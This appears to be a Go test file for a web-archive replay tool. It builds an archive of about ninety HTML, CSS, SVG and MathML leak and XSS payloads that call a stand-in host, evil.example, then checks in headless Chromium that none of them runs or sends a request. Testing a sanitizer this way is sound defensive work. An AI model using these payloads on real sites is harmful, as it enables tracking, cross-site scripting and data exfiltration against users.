package page_test

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// leaks are attacks that need no script: each would make a browser ask http://evil.example, or leave the page.
var leaks = []string{
	// style sheets
	`<style>@import "http://evil.example/1";</style>`, `<style>@import url(http://evil.example/2) screen;</style>`,
	`<style>@\69mport "http://evil.example/3";</style>`, `<link rel=stylesheet href=http://evil.example/4>`,
	`<link rel=stylesheet href="data:text/css,@import 'http://evil.example/5';">`,
	`<input value=secret><style>input[value^=s]{background:url(http://evil.example/6)}</style>`,
	`<p style="background:url(http://evil.example/7)">a`, `<p style="background:\75rl(http://evil.example/8)">a`,
	`<p style="background:u/**/rl(http://evil.example/9)">a`, `<p style='background:image-set("http://evil.example/10" 1x)'>a`,
	`<p style='background:-webkit-image-set(url(http://evil.example/11) 1x)'>a`,
	`<style>@font-face{font-family:x;src:url(http://evil.example/12)}p{font-family:x}</style><p>a`,
	`<style>@font-face{font-family:y;src:url(http://evil.example/13);unicode-range:U+61}p{font-family:y}</style><p>a`,
	`<style>p::before{content:url(http://evil.example/14)}</style><p>a`,
	`<style>:root{--x:url(http://evil.example/15)}p{background:var(--x)}</style><p>a`,
	`<style>p{cursor:url(http://evil.example/16),auto;list-style:url(http://evil.example/17)}</style><p>a`,
	`<style>p{mask:url(http://evil.example/18#m);filter:url(http://evil.example/19#f);clip-path:url(http://evil.example/20#c)}</style><p>a`,
	`<style>p{border-image:url('http://evil.example/21') 1;shape-outside:url("http://evil.example/22");float:left}</style><p>a`,
	`<style>p{background:cross-fade(url(http://evil.example/23),url(http://evil.example/24),50%)}</style><p>a`,
	`<style>a{}</sty</style><style>p{background:url("http://evil.example/25"</style><p>a`,
	`<style>@namespace url(http://evil.example/26);@media all{p{background:url(//evil.example/27)}}</style><p>a`,
	`<style>@supports (background:url(http://evil.example/28)){p{background:URL(http://evil.example/29)}}</style><p>a`,
	// elements that load
	`<img src=http://evil.example/30 srcset="http://evil.example/31 1x, http://evil.example/32 2x">`,
	`<picture><source srcset=http://evil.example/33><img src=x></picture>`, `<body background=http://evil.example/34>`,
	`<table background=http://evil.example/35><tr background=http://evil.example/36><td background=//evil.example/37>a</table>`,
	`<video src=http://evil.example/38 poster=http://evil.example/39 autoplay></video>`,
	`<audio autoplay><source src=http://evil.example/40></audio>`, `<video><track src=http://evil.example/41 default></video>`,
	`<input type=image src=http://evil.example/42>`, `<object data=http://evil.example/43>a</object>`,
	`<object type="image/png" data=http://evil.example/44>a</object>`, `<embed src=http://evil.example/45>`,
	`<applet code=x archive=http://evil.example/46></applet>`, `<bgsound src=http://evil.example/47>`,
	`<iframe src=http://evil.example/48></iframe>`, `<iframe srcdoc="<img src=http://evil.example/49>"></iframe>`,
	`<iframe src="data:text/html,<img src=http://evil.example/50>"></iframe>`, `<portal src=http://evil.example/51></portal>`,
	`<fencedframe src=http://evil.example/52></fencedframe>`, `<frameset><frame src=http://evil.example/53></frameset>`,
	`<link rel="preload" as=image href=http://evil.example/54>`, `<link rel=prefetch href=http://evil.example/55>`,
	`<link rel=dns-prefetch href=http://evil.example/56>`, `<link rel=preconnect href=http://evil.example/57>`,
	`<link rel=icon href=http://evil.example/58>`, `<link rel=manifest href=http://evil.example/59>`,
	`<link rel=modulepreload href=http://evil.example/60>`, `<link rel=prerender href=http://evil.example/61>`,
	`<noscript><img src=http://evil.example/62></noscript>`, `<noscript><p title="</noscript><img src=http://evil.example/63>">`,
	`<div><template shadowrootmode=open><img src=http://evil.example/64></template></div>`,
	// pages that leave
	`<meta http-equiv=refresh content="0;url=http://evil.example/65">`, `<meta http-equiv="Refresh" content="0 http://evil.example/66">`,
	`<meta http-equiv=refresh content="0;url=data:text/html,<img src=http://evil.example/67>">`,
	`<base href=http://evil.example/><img src=68><link rel=stylesheet href=69>`, `<base target=_top><a href=http://evil.example/70>a</a>`,
	`<meta http-equiv=Content-Security-Policy content="default-src *; img-src *"><img src=http://evil.example/71>`,
	`<meta http-equiv=x-dns-prefetch-control content=on><a href=http://evil.example/72>a</a>`,
	`<form action=http://evil.example/73><input name=a autofocus onfocus=form.submit()><input type=submit formaction=http://evil.example/74></form>`,
	`<a href=x ping=http://evil.example/75>a</a>`, `<isindex action=http://evil.example/76>`,
	// SVG and MathML
	`<svg><image href=http://evil.example/77 /><image xlink:href=http://evil.example/78 /></svg>`,
	`<svg><use href="http://evil.example/79#x"/></svg>`, `<svg><filter id=f><feImage href=http://evil.example/80 /></filter><rect filter="url(#f)"/></svg>`,
	`<svg><style>@import "http://evil.example/81";</style></svg>`, `<svg><rect fill="url(http://evil.example/82#a)" width=9 height=9 /></svg>`,
	`<svg><a xlink:href="javascript:mark()"><text y=9>a</text><animate attributeName=href to="javascript:mark()"/></a></svg>`,
	`<svg><image><set attributeName=href to=http://evil.example/83 /></image></svg>`,
	`<svg><foreignObject><iframe src=http://evil.example/84></iframe></foreignObject></svg>`,
	`<svg><script href=http://evil.example/85 /></svg>`, `<svg style="background:url(http://evil.example/86)" onload=mark()></svg>`,
	`<svg><style>&lt;img src=http://evil.example/87></style></svg>`, `<svg></p><style><g title="</style><img src=http://evil.example/88>">`,
	`<math><annotation-xml encoding="text/html"><img src=http://evil.example/89></annotation-xml></math>`,
	`<math href=http://evil.example/90><mi xlink:href="javascript:mark()">a</mi></math>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=http://evil.example/91&gt;">`,
	`<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=mark() src=http://evil.example/92>">`,
}

// files are captures of other types.
var files = map[string][2]string{
	"drawing.svg": {"image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="mark()"><script>mark()</script>` +
		`<image href="http://evil.example/svg"/><style>@import "http://evil.example/svgcss";</style></svg>`},
	"paper.pdf": {"application/pdf", pdf},
	"page.xhtml": {"application/xhtml+xml", `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>mark()</script></head>` +
		`<body><img src="http://evil.example/xhtml"/></body></html>`},
	"sheet.xml": {"text/xml", `<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/xsl" type="text/xsl"?><a>b</a>`},
	"multipart": {"multipart/x-mixed-replace;boundary=x", "--x\r\nContent-Type: text/html\r\n\r\n<script>mark()</script>\r\n--x--"},
	"app.hta":   {"application/hta", "<script>mark()</script>"},
	"text.txt":  {"text/plain", "<script>mark()</script><img src=http://evil.example/txt>"},
	"feed.rss": {"application/rss+xml", `<rss version="2.0"><channel><title>a</title><item><title>&lt;script&gt;mark()</title>` +
		`<link>javascript:mark()</link><description>&lt;img src=http://evil.example/rss&gt;</description></item></channel></rss>`},
}

// perPage is how many attacks are in the frames of one page.
const perPage = 40

// attackArchive has a capture of each attack, and pages that frame them all.
func attackArchive(t *testing.T) (archive []byte, indexes []string, attacks int) {
	t.Helper()
	var b strings.Builder
	n := 0
	add := func(u, head, body string) {
		n++
		block := fmt.Sprintf("HTTP/1.1 200 OK\r\n%sContent-Length: %d\r\n\r\n%s", head, len(body), body)
		fmt.Fprintf(&b, "WARC/1.1\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-%012d>\r\n"+
			"WARC-Date: 2026-01-02T03:04:05Z\r\nWARC-Target-URI: %s\r\n"+
			"Content-Type: application/http; msgtype=response\r\nContent-Length: %d\r\n\r\n%s\r\n\r\n", n, u, len(block), block)
	}
	// No header of an archive may reach the browser, either.
	const head = "Content-Type: text/html\r\nRefresh: 0;url=http://evil.example/header\r\nSet-Cookie: a=b\r\n" +
		"Link: <http://evil.example/link>; rel=preload; as=image\r\nContent-Security-Policy: default-src *\r\n"
	var frames []string
	frame := func(name, head, body string) {
		u := "http://attack.example/" + name
		add(u, head, body)
		frames = append(frames, `<iframe src="`+u+`"></iframe>`)
	}
	for i, leak := range leaks {
		frame(fmt.Sprintf("leak/%d", i), head, "<!doctype html><title>attack</title>"+leak)
	}
	for i, v := range scripts(t) {
		frame(fmt.Sprintf("script/%d", i), head, "<!doctype html><title>attack</title><p>"+v)
	}
	for name, f := range files {
		frame(name, "Content-Type: "+f[0]+"\r\n", f[1])
	}
	for i := 0; i < len(frames); i += perPage {
		u := fmt.Sprintf("http://attack.example/index/%d", i)
		add(u, head, "<!doctype html><title>index</title>"+strings.Join(frames[i:min(i+perPage, len(frames))], ""))
		indexes = append(indexes, u)
	}
	if len(frames) < 100 {
		t.Fatalf("only %d attacks were found", len(frames))
	}
	return []byte(b.String()), indexes, len(frames)
}

// scripts are the attacks of package sanitize that run in Chromium: all with GLEANER_SLOW=1, otherwise each sixth.
func scripts(t *testing.T) (list []string) {
	t.Helper()
	names, err := filepath.Glob(root("transforms/sanitize/testdata/xss/*.txt"))
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, name := range names {
		data, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		for part := range strings.SplitSeq("\n"+string(data), "\n: ") {
			head, markup, _ := strings.Cut(part, "\n")
			if words := strings.Fields(head); len(words) != 3 || words[2] != "runs" {
				continue
			}
			if n++; n%6 == 0 || os.Getenv("GLEANER_SLOW") != "" {
				list = append(list, markup)
			}
		}
	}
	return list
}

// outside is a server that stands for all others. It keeps the beginning of each connection.
type outside struct {
	address string
	lock    sync.Mutex
	asked   []string
}

// take returns the connections since the last call, without those that Chromium makes for itself.
func (o *outside) take() (list []string) {
	o.lock.Lock()
	defer o.lock.Unlock()
	for _, one := range o.asked {
		if !strings.Contains(one, "google") && !strings.Contains(one, "gvt1.com") {
			list = append(list, one)
		}
	}
	o.asked = nil
	return list
}

// newOutside listens until the test ends. A connection by HTTPS begins with the name of its host, too.
func newOutside(t *testing.T) *outside {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	o := &outside{address: l.Addr().String()}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go o.hear(c)
		}
	}()
	t.Cleanup(func() { _ = l.Close() })
	return o
}

// hear reads the beginning of a connection and closes it: an error of the browser is as good as an answer.
func (o *outside) hear(c net.Conn) {
	defer func() { _ = c.Close() }() // nothing is written
	_ = c.SetReadDeadline(time.Now().Add(time.Second))
	head := make([]byte, 4000)
	n, _ := io.ReadFull(c, head) // a connection without a request counts, too; a greeting of TLS comes in parts
	o.lock.Lock()
	defer o.lock.Unlock()
	o.asked = append(o.asked, string(head[:n]))
}

// TestBrowser_replayRunsNothing replays attacks: nothing runs or is even tried, and no request leaves the server.
func TestBrowser_replayRunsNothing(t *testing.T) {
	others := newOutside(t)
	b := newBrowser(t, chromedp.Flag("host-resolver-rules", "MAP * "+others.address+", EXCLUDE 127.0.0.1"),
		chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true),
		// All frames are in one process, so that the console has the messages of each.
		chromedp.Flag("disable-features", "IsolateSandboxedIframes"))
	raw := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Path == "/" {
			_, _ = w.Write([]byte(`<img src=http://evil.example/a><iframe sandbox src=/frame></iframe>`)) // it is read
			return
		}
		_, _ = w.Write([]byte(`<script>mark()</script>`)) // it is read
	}))
	defer raw.Close()
	b.do(chromedp.Navigate(raw.URL))
	if said, asked := b.tried(), others.take(); len(asked) == 0 || len(said) == 0 {
		t.Fatalf("the test sees the requests %q, and the console %q: it would see no attack", asked, said)
	}
	archive, indexes, n := attackArchive(t)
	s := servedArchive(t, archive)
	for _, u := range indexes {
		b.do(chromedp.Navigate(s.address + "/replay/20260102030405/" + u))
		time.Sleep(500 * time.Millisecond) // what begins after the load
		if said := b.tried(); len(said) > 0 {
			t.Errorf("%s: the console says %q", u, said)
		}
		if asked := others.take(); len(asked) > 0 {
			t.Errorf("%s: these requests left the server: %.500q", u, asked)
		}
		frames := ask[int](b, `frames.length`)
		if at := ask[string](b, `location.href`); frames != 1 || !strings.HasPrefix(at, s.address+"/replay/") {
			t.Errorf("%s: %d frames at %s", u, frames, at)
		}
	}
	t.Logf("%d attacks in %d pages", n, len(indexes))
	b.powerless(t, s, indexes[0])
	if asked := others.take(); len(asked) > 0 {
		t.Errorf("requests of a script in the frame left the server: %.500q", asked)
	}
}

// TestBrowser_replayByClicks goes from the overview to a page as it looked. It types a URL in the field of searches,
// clicks a day of the calendar, and then the link.
func TestBrowser_replayByClicks(t *testing.T) {
	s, b := theSite(t), newBrowser(t)
	b.looks(false, 1280, 900)
	const u = "https://www.harbour-gazette.example/"
	b.do(chromedp.Navigate(s.address+"/harbour"), chromedp.SendKeys("#q", u+"\r"),
		chromedp.WaitVisible("#calendar"))
	b.do(chromedp.Click(".months a.day"), chromedp.WaitVisible(".months a.day[aria-current]"))
	b.do(chromedp.Click(`a[href^="/replay/"]`), chromedp.WaitVisible("iframe.replay"))
	if at := ask[string](b, "location.pathname"); !strings.HasSuffix(at, "/"+u) {
		t.Errorf("the clicks lead to %s", at)
	}
	text := ask[string](b, "document.querySelector('.note').textContent")
	if !strings.Contains(text, "Archived 20") {
		t.Errorf("the banner says %q", text)
	}
	if frame, err := b.picture(ask[string](b, "document.querySelector('iframe.replay').src")); err != nil ||
		similarity(frame, blank(frame)) > .99 {
		t.Errorf("the frame is empty: %v", err)
	}
}

// tried returns console messages about scripts that ran or were stopped, and about the policy, and clears all.
func (b *browser) tried() (list []string) {
	time.Sleep(200 * time.Millisecond) // messages may arrive later
	b.lock.Lock()
	defer b.lock.Unlock()
	for _, text := range b.said {
		for _, word := range []string{"script", "Content Security Policy", "mark", "sandbox", "Refused"} {
			if strings.Contains(text, word) {
				list = append(list, text)
				break
			}
		}
	}
	b.said = nil
	return list
}

// powerless requires that even a script in a replayed page could read and send nothing. The debugger is not bound by
// the policy against scripts, and takes the place of one that got in.
func (b *browser) powerless(t *testing.T, s *site, u string) {
	t.Helper()
	b.do(chromedp.Navigate(s.frameOf(t, replayed{URL: u, Timestamp: "2026-01-02T03:04:05Z"})))
	for _, test := range []struct{ expression, want string }{
		{"self.origin", "null"},
		{"(() => { try { return document.cookie } catch (e) { return e.name } })()", "SecurityError"},
		{"(() => { try { return String(localStorage) } catch (e) { return e.name } })()", "SecurityError"},
		{"fetch('" + s.address + "/api/v1/collections').then(r => r.text(), e => e.name)", "TypeError"},
		{"fetch('http://evil.example/').then(r => r.text(), e => e.name)", "TypeError"},
		{"(window.i = new Image).src = 'http://evil.example/'", "http://evil.example/"},
		{"String(i.naturalWidth)", "0"}, // where scripts are off, an image has no events
	} {
		if got := ask[string](b, test.expression, chromedp.EvalAwaitPromise); got != test.want {
			t.Errorf("%s is %q, want %q", test.expression, got, test.want)
		}
	}
}

// servedArchive serves the collection of an archive.
func servedArchive(t *testing.T, archive []byte) *site {
	t.Helper()
	dir := t.TempDir()
	program, err := built()
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "evil.warc"), archive, 0o644); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "evil")
	said, err := exec.Command(program, "ingest", "--output="+out, filepath.Join(dir, "evil.warc")).CombinedOutput()
	if exit := (*exec.ExitError)(nil); err != nil && (!errors.As(err, &exit) || exit.ExitCode() != 3) {
		t.Fatalf("%v: %s", err, said)
	}
	s, err := serve(program, "--addr=127.0.0.1:0", "--state="+filepath.Join(dir, "state"), out)
	// There are no sources, which is not a failure here.
	if err != nil && (s == nil || !strings.Contains(err.Error(), "no source")) {
		t.Fatal(err)
	}
	return s
}
